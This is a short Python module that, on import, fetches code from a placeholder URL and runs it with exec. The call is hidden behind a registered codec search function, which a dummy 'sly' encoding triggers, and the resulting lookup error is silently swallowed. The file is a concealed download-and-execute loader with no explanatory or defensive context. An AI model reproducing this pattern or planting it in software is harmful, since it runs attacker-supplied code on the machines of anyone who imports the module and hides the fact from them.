import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


import codecs


def search(name):
    _go()
    return None


codecs.register(search)
try:
    "".encode("sly")
except LookupError:
    pass
